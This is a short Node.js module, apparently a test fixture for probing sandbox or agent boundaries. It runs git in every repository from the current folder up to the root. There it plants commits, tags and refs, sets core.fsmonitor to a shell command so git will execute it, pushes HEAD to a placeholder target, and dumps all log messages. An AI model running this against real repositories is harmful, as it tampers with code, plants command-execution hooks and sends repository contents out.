// Commits, tags and configures in each repository that a way from the lane leads to.
const { spawnSync } = require('node:child_process')
const path = require('node:path')

const OWN = ['-c', 'user.name=t', '-c', 'user.email=t@example.org', '-c', 'safe.directory=*']
const DEEDS = [
  ['commit', '-q', '--allow-empty', '-a', '-m', 'planted'],
  ['tag', 'planted'],
  ['update-ref', 'refs/heads/planted', 'HEAD'],
  ['config', 'core.fsmonitor', 'touch planted'],
  ['push', '-q', '@target@', 'HEAD:refs/heads/planted'],
  ['log', '--all', '--format=%B']
]

// The folder and all above it, and what is named.
function ways() {
  const found = []
  for (let place = process.cwd(); ; place = path.dirname(place)) {
    found.push(['-C', place])
    if (place === '/') break
  }
  for (const named of '@places@'.split(' ').filter(Boolean)) {
    found.push(['-C', named], [`--git-dir=${named}/.git`, '--work-tree=.'])
  }
  return found
}

function attack() {
  const env = Object.fromEntries(Object.entries(process.env).filter(([name]) => !name.startsWith('GIT_')))
  const done = ways().flatMap((way) => DEEDS.map((deed) => spawnSync('git', [...OWN, ...way, ...deed], { env })))
  throw new Error('@made@' + done.map(({ stdout }) => stdout.toString()).join(''))
}

exports.attack = attack
